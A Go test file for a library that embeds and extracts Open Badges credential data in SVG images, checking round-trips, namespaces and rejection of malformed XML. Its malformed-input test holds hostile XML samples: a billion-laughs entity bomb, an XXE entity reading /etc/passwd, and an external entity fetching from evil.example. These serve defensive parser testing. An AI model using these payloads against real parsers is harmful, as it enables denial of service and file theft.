package bake

import (
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"strings"
	"testing"
)

// wellFormed parses b with encoding/xml (namespace-translating Token) to
// prove the baked output is still XML.
func wellFormed(t *testing.T, b []byte) {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(b))
	d.Strict = true
	for {
		_, err := d.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Fatalf("baked SVG is not well-formed: %v\n%s", err, b)
		}
	}
}

func countBadgeElems(t *testing.T, b []byte) int {
	t.Helper()
	doc, err := parseSVG(b)
	if err != nil {
		t.Fatal(err)
	}
	return len(doc.elems)
}

func TestSVGRoundTrip(t *testing.T) {
	cases := []struct {
		name, element, payload, verify string
		keyword, ns                    string
	}{
		{"ob3 json", ElementCredential, ob3JSON, "", ElementCredential, NamespaceOB3},
		{"ob3 jwt", KeywordOB3, "", compactJWS, ElementCredential, NamespaceOB3},
		{"clr", KeywordCLR, ob3JSON, "", ElementCredential, NamespaceCLR},
		{"ob2 hosted", ElementAssertion, `{"id":"https://example.org/a/1","verification":{"type":"hosted"}}`, "https://example.org/a/1", ElementAssertion, NamespaceOB2},
		{"ob2 signed", KeywordOB2, "", compactJWS, ElementAssertion, NamespaceOB2},
		{"CDATA terminator", ElementCredential, `{"narrative":"a]]>b]]>]]>c]]"}`, "", ElementCredential, NamespaceOB3},
		{"ends with ]]", ElementCredential, `x]]`, "", ElementCredential, NamespaceOB3},
		{"carriage return", ElementCredential, "{\"a\":\"x\r\ny\r\"}", "", ElementCredential, NamespaceOB3},
		{"markup in verify", ElementAssertion, "", `https://example.org/a?x=1&y="2"<>` + "\t", ElementAssertion, NamespaceOB2},
	}
	for _, c := range cases {
		out, err := BakeSVG([]byte(plainSVG), c.element, []byte(c.payload), c.verify)
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		wellFormed(t, out)
		got, err := UnbakeSVG(out)
		if err != nil {
			t.Fatalf("%s: %v\n%s", c.name, err, out)
		}
		want := c.payload
		if want == "" {
			want = strings.TrimSpace(c.verify)
		}
		if got.Kind != SVG || got.Keyword != c.keyword || got.Namespace != c.ns || string(got.Payload) != want || got.Verify != c.verify || len(got.Warnings) != 0 {
			t.Errorf("%s: got %+v\n%s", c.name, got, out)
		}
		if !bytes.Contains(out, []byte(`xmlns:openbadges="`+c.ns+`"`)) {
			t.Errorf("%s: namespace not declared on the root:\n%s", c.name, out)
		}
		// The rest of the document is untouched.
		if !bytes.Contains(out, []byte(`<circle cx="5" cy="5" r="4" fill="#E44D26"/>`)) || !bytes.HasPrefix(out, []byte(`<?xml version="1.0" encoding="UTF-8"?>`+"\n<svg ")) {
			t.Errorf("%s: document changed:\n%s", c.name, out)
		}
	}
	// The exact shape the specs show.
	out, _ := BakeSVG([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>`), ElementCredential, []byte(`{"a":1}`), "")
	want := `<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">` +
		"\n" + `<openbadges:credential><![CDATA[{"a":1}]]></openbadges:credential><g/></svg>`
	if string(out) != want {
		t.Errorf("got\n%s\nwant\n%s", out, want)
	}
}

func TestSVGRebakeReplaces(t *testing.T) {
	src := `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org" width='10'>
  <openbadges:assertion verify="http://old.example"><![CDATA[{"old":1}]]></openbadges:assertion>
  <g><openbadges:credential verify="old.jwt.sig"/></g>
  <credential xmlns="https://purl.imsglobal.org/ob/v3p0">{"old":3}</credential>
  <rect width="1" height="1"/>
</svg>`
	if n := countBadgeElems(t, []byte(src)); n != 3 {
		t.Fatalf("found %d badge elements, want 3", n)
	}
	out, err := BakeSVG([]byte(src), ElementCredential, []byte(ob3JSON), "")
	if err != nil {
		t.Fatal(err)
	}
	out, err = BakeSVG(out, ElementCredential, []byte(`{"new":2}`), "") // again
	if err != nil {
		t.Fatal(err)
	}
	wellFormed(t, out)
	if n := countBadgeElems(t, out); n != 1 {
		t.Errorf("%d badge elements after re-baking:\n%s", n, out)
	}
	if bytes.Contains(out, []byte("old")) {
		t.Errorf("old badge data left:\n%s", out)
	}
	// The root's openbadges namespace was rewritten in place, once.
	if c := bytes.Count(out, []byte("xmlns:openbadges=")); c != 1 || !bytes.Contains(out, []byte(`xmlns:openbadges="`+NamespaceOB3+`" width='10'>`)) {
		t.Errorf("root not rewritten:\n%s", out)
	}
	got, err := UnbakeSVG(out)
	if err != nil || string(got.Payload) != `{"new":2}` || got.Namespace != NamespaceOB3 || len(got.Warnings) != 0 {
		t.Errorf("got %+v, %v", got, err)
	}
	if !bytes.Contains(out, []byte(`<g></g>`)) || !bytes.Contains(out, []byte(`<rect width="1" height="1"/>`)) {
		t.Errorf("other elements damaged:\n%s", out)
	}
}

func TestSVGRootShapes(t *testing.T) {
	cases := []struct{ name, in, wantRoot string }{
		{"self-closing", `<svg xmlns="http://www.w3.org/2000/svg"/>`, `<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="` + NamespaceOB2 + `">`},
		{"self-closing prefixed", `<s:svg xmlns:s="http://www.w3.org/2000/svg" />`, `<s:svg xmlns:s="http://www.w3.org/2000/svg"  xmlns:openbadges="` + NamespaceOB2 + `">`},
		{"quotes and > in attributes", `<svg a="x>y" b='/>'` + "\n" + `xmlns:openbadges='http://openbadges.org'></svg>`, `<svg a="x>y" b='/>'` + "\n" + `xmlns:openbadges='http://openbadges.org'>`},
		{"bare", `<svg></svg>`, `<svg xmlns:openbadges="` + NamespaceOB2 + `">`},
		{"BOM and comments", "\ufeff<!-- a -->\n<svg>\n</svg>\n<!-- b -->\n", `<svg xmlns:openbadges="` + NamespaceOB2 + `">`},
	}
	for _, c := range cases {
		out, err := BakeSVG([]byte(c.in), ElementAssertion, nil, "https://example.org/a/1")
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		wellFormed(t, out)
		if !bytes.Contains(out, []byte(c.wantRoot)) {
			t.Errorf("%s: root tag not as expected:\n%s", c.name, out)
		}
		got, err := UnbakeSVG(out)
		if err != nil || string(got.Payload) != "https://example.org/a/1" {
			t.Errorf("%s: %+v, %v", c.name, got, err)
		}
	}
}

// When the document itself uses the "openbadges" prefix for something else,
// BakeSVG leaves the root alone and declares the namespace on the element.
func TestSVGPrefixInUse(t *testing.T) {
	cases := []string{
		`<openbadges:svg xmlns:openbadges="http://www.w3.org/2000/svg"><openbadges:rect/></openbadges:svg>`,
		`<svg xmlns:openbadges="urn:x" openbadges:a="1"><rect/></svg>`,
		`<svg xmlns:openbadges="urn:x"><openbadges:meta/></svg>`,
		`<svg xmlns:openbadges="urn:x"><rect openbadges:a="1"/></svg>`,
	}
	for _, in := range cases {
		out, err := BakeSVG([]byte(in), ElementCredential, []byte("{}"), "")
		if err != nil {
			t.Fatal(err)
		}
		wellFormed(t, out)
		root := in[:strings.IndexByte(in, '>')+1]
		if !bytes.HasPrefix(out, []byte(root)) {
			t.Errorf("root changed:\n%s\n%s", in, out)
		}
		if !bytes.Contains(out, []byte(`<openbadges:credential xmlns:openbadges="`+NamespaceOB3+`">`)) {
			t.Errorf("no element-level declaration:\n%s", out)
		}
		got, err := UnbakeSVG(out)
		if err != nil || got.Namespace != NamespaceOB3 || string(got.Payload) != "{}" || len(got.Warnings) != 0 {
			t.Errorf("%s: %+v %v", out, got, err)
		}
	}
}

func TestSVGUnbakeMatching(t *testing.T) {
	cases := []struct {
		name, in          string
		keyword, ns, want string
		verify            string
		warnings          int
	}{
		{"OB2 spec example", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org"><openbadges:assertion verify="https://example.org/assertions/123"><![CDATA[
		   {"id": "https://example.org/assertions/123"}
		]]></openbadges:assertion></svg>`, ElementAssertion, NamespaceOB2, `{"id": "https://example.org/assertions/123"}`, "https://example.org/assertions/123", 0},
		{"other prefix, same namespace", `<svg xmlns:ob="https://purl.imsglobal.org/ob/v3p0"><ob:credential>{}</ob:credential></svg>`, ElementCredential, NamespaceOB3, `{}`, "", 0},
		{"default namespace", `<svg><credential xmlns="https://purl.imsglobal.org/clr/v2p0">{}</credential></svg>`, ElementCredential, NamespaceCLR, `{}`, "", 0},
		{"https openbadges.org", `<svg xmlns:openbadges="https://openbadges.org"><openbadges:assertion>{}</openbadges:assertion></svg>`, ElementAssertion, "https://openbadges.org", `{}`, "", 0},
		{"spec-path variant", `<svg xmlns:openbadges="https://purl.imsglobal.org/spec/ob/v3p0"><openbadges:credential>{}</openbadges:credential></svg>`, ElementCredential, "https://purl.imsglobal.org/spec/ob/v3p0", `{}`, "", 0},
		{"undeclared prefix", `<svg><openbadges:assertion verify="https://example.org/a"/></svg>`, ElementAssertion, "", "https://example.org/a", "https://example.org/a", 1},
		{"prefix bound elsewhere", `<svg xmlns:openbadges="urn:x"><openbadges:credential>{}</openbadges:credential></svg>`, ElementCredential, "urn:x", `{}`, "", 1},
		{"text not CDATA, entities", `<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion>{"a":"&lt;&amp;&#x263A;"}</openbadges:assertion></svg>`, ElementAssertion, NamespaceOB2, `{"a":"<&☺"}`, "", 0},
		{"credential beats assertion", `<svg xmlns:openbadges="http://openbadges.org" xmlns:ob3="https://purl.imsglobal.org/ob/v3p0"><openbadges:assertion>two</openbadges:assertion><ob3:credential>three</ob3:credential></svg>`, ElementCredential, NamespaceOB3, "three", "", 1},
		{"first of two", `<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion>one</openbadges:assertion><g><openbadges:assertion>two</openbadges:assertion></g></svg>`, ElementAssertion, NamespaceOB2, "one", "", 1},
		{"children ignored", `<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion>a<x>b</x>c<!-- d --></openbadges:assertion></svg>`, ElementAssertion, NamespaceOB2, "ac", "", 0},
		{"external DOCTYPE accepted", `<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential verify="a.b.c"></openbadges:credential></svg>`, ElementCredential, NamespaceOB3, "a.b.c", "a.b.c", 0},
		{"ASCII declaration", `<?xml version="1.0" encoding="US-ASCII"?><svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion>x</openbadges:assertion></svg>`, ElementAssertion, NamespaceOB2, "x", "", 0},
	}
	for _, c := range cases {
		got, err := UnbakeSVG([]byte(c.in))
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		if got.Keyword != c.keyword || got.Namespace != c.ns || string(got.Payload) != c.want || got.Verify != c.verify || len(got.Warnings) != c.warnings {
			t.Errorf("%s: got keyword %q ns %q payload %q verify %q warnings %q", c.name, got.Keyword, got.Namespace, got.Payload, got.Verify, got.Warnings)
		}
	}
	notBaked := []string{
		plainSVG,
		`<svg xmlns:x="urn:x"><x:credential>{}</x:credential></svg>`, // unknown namespace, other prefix
		`<svg xmlns:openbadges="http://openbadges.org"><openbadges:badge>{}</openbadges:badge></svg>`,
		`<svg><credential>{}</credential></svg>`, // no namespace at all
	}
	for _, s := range notBaked {
		if _, err := UnbakeSVG([]byte(s)); !errors.Is(err, ErrNotBaked) {
			t.Errorf("%s: err = %v, want ErrNotBaked", s, err)
		}
	}
}

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion>&lol9;</openbadges:assertion></svg>`

func TestSVGMalformed(t *testing.T) {
	deep := strings.Repeat("<g>", MaxSVGDepth) + strings.Repeat("</g>", MaxSVGDepth)
	cases := []struct {
		name, in string
		sentinel error
		frag     []string
	}{
		{"billion laughs", billionLaughs, ErrDTD, []string{"internal subset"}},
		{"XXE", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg>&xxe;</svg>`, ErrDTD, []string{"DTDs and entity declarations are refused"}},
		{"external parameter entity", `<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><svg/>`, ErrDTD, []string{"internal subset"}},
		{"bare ENTITY", `<!ENTITY x "y"><svg/>`, ErrDTD, []string{"<!ENTITY"}},
		{"ENTITY inside", `<svg><!ENTITY x "y"></svg>`, ErrDTD, []string{"<!ENTITY"}},
		{"undeclared entity", `<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion>&lol9;</openbadges:assertion></svg>`, nil, []string{"not well-formed", "line 1", "entity"}},
		{"DOCTYPE after root", `<svg><!DOCTYPE svg></svg>`, nil, []string{"DOCTYPE after the root"}},
		{"mismatched tags", "<svg>\n<g></h></svg>", nil, []string{"not well-formed", "line 2"}},
		{"unclosed", `<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion>{}</openbadges:assertion>`, nil, []string{"cut off"}},
		{"cut off in a tag", `<svg><openbadges:assert`, nil, []string{"cut off"}},
		{"unquoted attribute", `<svg a=b></svg>`, nil, []string{"not well-formed"}},
		{"two roots", `<svg></svg><svg></svg>`, nil, []string{"second root"}},
		{"text after root", `<svg></svg> junk`, nil, []string{"text outside the root"}},
		{"not svg", `<?xml version="1.0"?><html/>`, ErrNotImage, []string{"root element is <html>"}},
		{"no root", `<?xml version="1.0"?>`, ErrNotImage, []string{"no root element"}},
		{"latin-1", `<?xml version="1.0" encoding="ISO-8859-1"?><svg/>`, nil, []string{`encoding "ISO-8859-1"`, "only UTF-8"}},
		{"invalid UTF-8", "<svg>\xff</svg>", nil, []string{"not well-formed"}},
		{"control character", "<svg>\x01</svg>", nil, []string{"not well-formed"}},
		{"too deep", `<svg>` + deep + `</svg>`, ErrTooLarge, []string{"nests elements more than 256 deep"}},
		{"empty element", `<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion>  <![CDATA[ ]]> </openbadges:assertion></svg>`, nil, []string{"<openbadges:assertion> element is empty"}},
		{"empty verify", `<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion verify=" "/></svg>`, nil, []string{"is empty"}},
		{"payload too large", `<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion>` + strings.Repeat("a", MaxPayloadBytes+1) + `</openbadges:assertion></svg>`, ErrTooLarge, []string{"over the 1048576-byte limit"}},
		{"verify too large", `<svg xmlns:openbadges="http://openbadges.org"><openbadges:assertion verify="` + strings.Repeat("a", MaxPayloadBytes+1) + `">{}</openbadges:assertion></svg>`, ErrTooLarge, []string{"verify attribute"}},
		{"image too large", `<svg>` + strings.Repeat(" ", MaxImageBytes) + `</svg>`, ErrTooLarge, []string{"over the 4194304-byte limit"}},
	}
	for _, c := range cases {
		_, err := UnbakeSVG([]byte(c.in))
		errorReadsWell(t, c.name, err, c.frag...)
		if c.sentinel != nil && !errors.Is(err, c.sentinel) {
			t.Errorf("%s: err = %v, want %v", c.name, err, c.sentinel)
		}
		if !strings.Contains(c.name, "empty") && !strings.Contains(c.name, "large") {
			if _, err := BakeSVG([]byte(c.in), ElementCredential, []byte("{}"), ""); err == nil {
				t.Errorf("%s: BakeSVG accepted it", c.name)
			}
		}
	}
	// A large internal subset is refused as soon as the DOCTYPE is read.
	big := `<!DOCTYPE svg [` + strings.Repeat(`<!ENTITY a "b">`, 100000) + `]><svg/>`
	if _, err := UnbakeSVG([]byte(big)); !errors.Is(err, ErrDTD) {
		t.Errorf("large DTD: %v", err)
	}
}

func TestBakeSVGArguments(t *testing.T) {
	cases := []struct {
		name, element, payload, verify string
	}{
		{"unknown element", "badge", "{}", ""},
		{"nothing to bake", ElementCredential, " ", ""},
		{"NUL", ElementCredential, "{\x00}", ""},
		{"control char in verify", ElementAssertion, "", "a\x1bb"},
		{"bad UTF-8", ElementCredential, "\xc3", ""},
		{"too large", ElementCredential, strings.Repeat("a", MaxPayloadBytes+1), ""},
	}
	for _, c := range cases {
		if _, err := BakeSVG([]byte(plainSVG), c.element, []byte(c.payload), c.verify); err == nil {
			t.Errorf("%s: accepted", c.name)
		}
	}
	if _, err := BakeSVG(testPNG(t, 2, 2, false), ElementCredential, []byte("{}"), ""); err == nil {
		t.Error("PNG accepted as SVG")
	}
	// The result may not exceed MaxImageBytes.
	big := []byte(`<svg>` + strings.Repeat(" ", MaxImageBytes-20) + `</svg>`)
	if _, err := BakeSVG(big, ElementCredential, []byte(`{"a":1}`), ""); !errors.Is(err, ErrTooLarge) {
		t.Errorf("oversize result: %v", err)
	}
}
